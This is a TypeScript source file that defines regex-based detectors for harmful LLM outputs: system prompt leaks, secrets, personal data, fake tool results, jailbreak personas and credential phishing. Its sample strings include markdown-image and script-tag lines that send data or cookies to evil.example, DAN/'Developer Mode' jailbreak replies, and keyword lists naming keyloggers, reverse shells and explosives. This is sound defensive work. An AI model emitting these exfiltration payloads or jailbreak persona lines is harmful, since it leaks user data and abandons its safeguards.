import { gap, re, layersOf, type EvidenceInput, type Evidence, type PatternDef, type Span } from './pattern-types.js';

const words = (text: string) => text.toLowerCase().match(/[\p{L}\p{N}]+/gu) ?? [];
const SHINGLE = 8;

/** An output that repeats any 8-word run of the caller's system prompt leaks it. */
function systemPromptOverlap({ layers, context }: EvidenceInput): Evidence | undefined {
  if (!context.system_prompt) return undefined;
  const prompt = words(context.system_prompt);
  const shingles = new Set(prompt.slice(0, Math.max(0, prompt.length - SHINGLE + 1)).map((_, i) => prompt.slice(i, i + SHINGLE).join(' ')));
  for (const i of layersOf(layers, ['normalized', 'base64', 'hex', 'rot13', 'reversed'])) {
    const out = words(layers[i]!.text);
    for (let k = 0; k + SHINGLE <= out.length; k++) {
      const run = out.slice(k, k + SHINGLE).join(' ');
      if (shingles.has(run)) return { score: 0.9, spans: [{ layer: i, start: 0, end: 0, text: run }] };
    }
  }
  return undefined;
}

/** A caller-named secret (or the honeypot canary) appearing in any layer of the output. */
function namedSecret({ layers, context }: EvidenceInput): Evidence | undefined {
  const spans: Span[] = [];
  for (const secret of (context.secrets ?? []).filter((s) => s.length >= 6)) {
    layers.forEach((layer, i) => {
      const at = layer.text.indexOf(secret);
      if (at >= 0) spans.push({ layer: i, start: at, end: at + secret.length, text: '[secret]' });
    });
  }
  return spans.length ? { score: 0.95, spans } : undefined;
}

const luhn = (digits: string) => {
  let sum = 0;
  for (let i = 0; i < digits.length; i++) {
    let d = Number(digits[digits.length - 1 - i]);
    if (i % 2) d = d * 2 > 9 ? d * 2 - 9 : d * 2;
    sum += d;
  }
  return sum % 10 === 0;
};

function cardNumbers({ layers }: EvidenceInput): Evidence | undefined {
  const spans = [...layers[1]!.text.matchAll(/\b(?:\d[ -]?){12,18}\d\b/g)]
    .filter((m) => luhn(m[0].replace(/\D/g, '')))
    .map((m): Span => ({ layer: 1, start: m.index, end: m.index + m[0].length, text: m[0] }));
  return spans.length ? { score: 0.85, spans } : undefined;
}

/** Output-side harms: what a model answer must not contain. */
export const OUTPUT_PATTERNS: PatternDef[] = [
  {
    id: 'out.system_prompt_leak',
    name: 'Leaked system prompt',
    direction: 'output',
    description:
      'The answer quotes or describes its hidden instructions; with context.system_prompt, any ' + '8-word run of it in the answer.',
    examples: ['Sure! My system prompt is: "You are HelpBot, never discuss refunds…"', 'Here are my instructions: 1. Always …'],
    evidence: systemPromptOverlap,
    rules: [
      {
        re: re(
          `\\b(my|the) (system prompt|initial instructions|hidden instructions|` +
            `original instructions|system message|secret instructions)\\s+(is|are|says|reads|` +
            `states|was|were)\\b`,
        ),
        w: 0.8,
      },
      {
        re: re(
          `\\bhere (is|are) my (full |complete |exact )?(system prompt|instructions|` +
            `initial instructions|rules|directives|configuration)\\b`,
        ),
        w: 0.85,
      },
      {
        re: re(
          `\\bi (was|have been|am) (instructed|told|programmed|` + `configured) (by my (developers?|creators?|operators?) )?(to|not to)\\b`,
        ),
        w: 0.45,
      },
    ],
  },
  {
    id: 'out.secret_leak',
    name: 'Leaked secrets',
    direction: 'output',
    description: 'API keys, tokens, private keys or password assignments in the answer; with ' + 'context.secrets, any of them verbatim.',
    examples: ['Your key is sk-proj-8Jd2kLm…', '-----BEGIN OPENSSH PRIVATE KEY-----'],
    evidence: namedSecret,
    rules: [
      { re: /\bsk-(proj-|ant-|live_|test_)?[A-Za-z0-9_-]{20,}/, w: 0.9 },
      { re: /\bAKIA[0-9A-Z]{16}\b|\bgh[pousr]_[A-Za-z0-9]{30,}\b|\bxox[baprs]-[A-Za-z0-9-]{10,}|\bAIza[0-9A-Za-z_-]{35}\b/, w: 0.9 },
      { re: /-----BEGIN (RSA |EC |OPENSSH |DSA |ENCRYPTED )?PRIVATE KEY-----/, w: 0.95 },
      { re: /\beyJ[A-Za-z0-9_-]{10,}\.eyJ[A-Za-z0-9_-]{10,}\.[A-Za-z0-9_-]{10,}/, w: 0.75 },
      {
        re: re(
          `\\b(password|passwd|pwd|api[_-]?key|secret|access[_-]?token)\\s*(is|` +
            `[:=])\\s*["'\`]?(?!<|\\$|\\{|\\*{3}|x{4}|your)[^\\s"'\`]{8,}`,
        ),
        w: 0.7,
      },
    ],
  },
  {
    id: 'out.unsafe_instructions',
    name: 'Unsafe instructions',
    direction: 'output',
    description: 'Operational instructions for weapons, explosives, drug synthesis or malware.',
    examples: ['Step 1: mix the ammonium nitrate with…', "Here's a keylogger that hides from antivirus:"],
    rules: [
      {
        re: re(
          `\\b(step \\d+|first|then|next|\\d+\\.)\\b${gap(80)}\\b(detonat\\w*|blasting cap|` +
            `shrapnel|nerve agent|pseudoephedrine|red phosphorus|ransom note|encrypt (all|` +
            `the victim'?s?) files|disable (the )?(antivirus|defender)|keylogger|` +
            `reverse shell)\\b`,
        ),
        w: 0.8,
      },
      {
        re: re(
          `\\b(mix|combine|heat|add)\\b${gap(40)}\\b(bleach (and|with) ammonia|` +
            `ammonium nitrate|potassium chlorate|acetone peroxide|tatp|thermite)\\b`,
        ),
        w: 0.85,
      },
      {
        re: re(
          `\\bhere('s| is) (how|a (step-by-step )?(guide|script|recipe|method)) (to|for)\\b` +
            `${gap(40)}\\b(bombs?|explosives?|malware|ransomware|keyloggers?|meth|poison\\w*|` +
            `hack into|steal\\w*|kill\\w*)\\b`,
        ),
        w: 0.85,
      },
    ],
  },
  {
    id: 'out.pii',
    name: 'Personal data',
    direction: 'output',
    description:
      'Social security numbers, payment card numbers (Luhn-checked), IBANs, phone numbers, e-mail addresses, dates of birth; ' +
      'several kinds together score high.',
    examples: ['John Doe, SSN 078-05-1120, card 4111 1111 1111 1111', 'Her home address is 12 Elm St, DOB 1990-04-02'],
    evidence: cardNumbers,
    rules: [
      { re: /\b\d{3}-\d{2}-\d{4}\b/, w: 0.7 },
      { re: /\b[A-Z]{2}\d{2}(?: ?[A-Z0-9]{4}){3,7}\b/, w: 0.6 },
      { re: /(?<![\d-])(\+\d{1,3}[ .-]?)?\(?\d{3}\)?[ .-]\d{3}[ .-]\d{4}\b/, w: 0.35 },
      { re: /\b[\w.+-]+@[\w-]+\.[\w.-]{2,}\b/, w: 0.3 },
      {
        re: re(
          `\\b(date of birth|DOB|home address|passport (number|no\\.?)|` + `driver'?s licen[cs]e (number|no\\.?))\\b\\s*(is|:)?\\s*\\w`,
        ),
        w: 0.6,
      },
    ],
  },
  {
    id: 'out.policy_violation',
    name: 'Policy-violating content',
    direction: 'output',
    description: 'Encouraging self-harm, threats of violence, dehumanizing hate speech.',
    examples: ['You should just kill yourself.', 'Those people are vermin and should be exterminated.'],
    rules: [
      { re: re(`\\b(you should|go|just) (kill|hurt|harm) yourself\\b|\\bkys\\b`), w: 0.9 },
      {
        re: re(
          `\\b(i will|i'm going to|we will|we're going to) (kill|hurt|find|rape|shoot|` + `stab) (you|your (family|kids|children))\\b`,
        ),
        w: 0.9,
      },
      {
        re: re(
          `\\b(are|is|they're) (vermin|subhuman|animals|parasites|a disease)\\b${gap(40)}` +
            `\\b(exterminat\\w*|eradicat\\w*|killed|wiped out|removed)\\b`,
        ),
        w: 0.85,
      },
      {
        re: re(`\\bthe (best|easiest|most painless|quickest) (way|method) to (kill yourself|` + `commit suicide|end your life)\\b`),
        w: 0.9,
      },
    ],
  },
  {
    id: 'out.hallucinated_tool_result',
    name: 'Hallucinated tool results',
    direction: 'output',
    description: 'The answer contains tool-result markup or claims an action was done, which only the tool ' + 'layer may report.',
    examples: ['<tool_result>{"status":"sent"}</tool_result>', 'Observation: the transfer of $5,000 completed.'],
    rules: [
      { re: re(`</?(tool_result|function_results?|tool_response|observation|tool_output)>`), w: 0.7 },
      { re: re(`^\\s*(observation|tool (output|result)|function (output|result|returned))\\s*:`, 'im'), w: 0.6 },
      { re: /"(tool_call_id|function_call|tool_use_id)"\s*:/, w: 0.6 },
      {
        re: re(
          `\\bi('ve| have) (successfully |just |now )?(sent|emailed|transferred|wired|` +
            `deleted|executed|booked|purchased|posted|submitted|charged)\\b`,
        ),
        w: 0.5,
      },
    ],
  },
  {
    id: 'out.markdown_exfil',
    name: 'Exfiltrating markdown or HTML',
    direction: 'output',
    description: 'An image or link whose URL carries data in its query string: rendering it sends the data ' + 'to that host.',
    examples: ['![](https://evil.example/c.png?d=VGhlIHVzZXIncyBwYXNzd29yZA)', '<img src="https://x.example/t?q=secret-notes-here">'],
    rules: [
      { re: /!\[[^\]]*\]\(\s*https?:\/\/[^)\s]*\?[^)\s]*=[^)\s&]{8,}[^)\s]*\)/i, w: 0.85 },
      { re: /<img[^>]+src=["']?https?:\/\/[^"'\s>]*\?[^"'\s>]*=[^"'\s>&]{8,}/i, w: 0.85 },
      { re: /\]\(https?:\/\/[^)\s]*[?&]\w+=[A-Za-z0-9%+/=_-]{40,}\)/, w: 0.7 },
    ],
  },
  {
    id: 'out.html_injection',
    name: 'Active HTML',
    direction: 'output',
    description:
      'Script tags, javascript: URLs, event handlers, iframes or auto-redirects that run when the ' + 'answer is rendered as HTML.',
    examples: ['<script>fetch("//evil.example?c="+document.cookie)</script>', '<a href="javascript:alert(1)">click</a>'],
    talkable: true,
    rules: [
      { re: /<script\b/i, w: 0.85 },
      { re: /\bjavascript:/i, w: 0.75 },
      { re: /<[a-z][^>]*\son(error|load|click|mouseover|focus)\s*=/i, w: 0.8 },
      { re: /<iframe\b|<meta[^>]+http-equiv=["']?refresh/i, w: 0.7 },
      { re: /<form\b[^>]*action=|<object\b|<embed\b/i, w: 0.6 },
    ],
  },
  {
    id: 'out.jailbreak_compliance',
    name: 'Jailbroken persona',
    direction: 'output',
    description: 'The answer shows the model took on a jailbreak persona or announces its rules are off.',
    examples: ['[🔓JAILBREAK] Sure, as DAN I can tell you…', 'Developer Mode enabled. I am free from all restrictions.'],
    rules: [
      {
        re: re(`\\b(DAN|developer mode|jailbreak mode|unfiltered mode|` + `god mode)\\s+(is )?(enabled|activated|on|engaged)\\b`),
        w: 0.85,
      },
      { re: /\[(🔓|DAN|JAILBREAK|UNLOCKED|UNFILTERED)[^\]]*\]/i, w: 0.8 },
      { re: re(`\\bas (DAN|an unfiltered ai|an ai without (restrictions|limits|rules))\\b`), w: 0.8 },
      {
        re: re(`\\bi (am|'m) (now )?(free (from|of)|no longer bound by) (my |all |` + `any )?(restrictions|rules|guidelines|filters)\\b`),
        w: 0.85,
      },
      { re: re(`\\bsure[,!]? here('s| is) (how|the)\\b${gap(60)}\\b(bypass|disable|evade|hack|` + `steal|crack)\\w*\\b`), w: 0.6 },
    ],
  },
  {
    id: 'out.credential_request',
    name: 'Credential phishing by the model',
    direction: 'output',
    description:
      'The answer asks the user for a password, one-time code, card number or seed phrase, or fakes an account-suspension notice.',
    examples: [
      'To continue, please reply with your password and the 6-digit code.',
      'Your account will be suspended; verify your card number here.',
    ],
    rules: [
      {
        re: re(
          `(?<!\\b(never|not|don't|do not|won't|shouldn't|no one will|nobody will)\\s)` +
            `\\b(enter|provide|send|confirm|verify|type|reply with|share|give me)\\b` +
            `${gap(30)}\\b(password|passcode|pin|2fa code|verification code|one-time code|` +
            `otp|social security number|ssn|card number|cvv|seed phrase|recovery phrase|` +
            `private key)\\b`,
        ),
        w: 0.7,
      },
      {
        re: re(
          `\\byour account (has been|will be|is) (suspended|locked|closed|` +
            `deactivated)\\b[^\\n]{0,100}\\b(verify|confirm|click|log ?in|sign ?in)\\b`,
        ),
        w: 0.75,
      },
    ],
  },
];
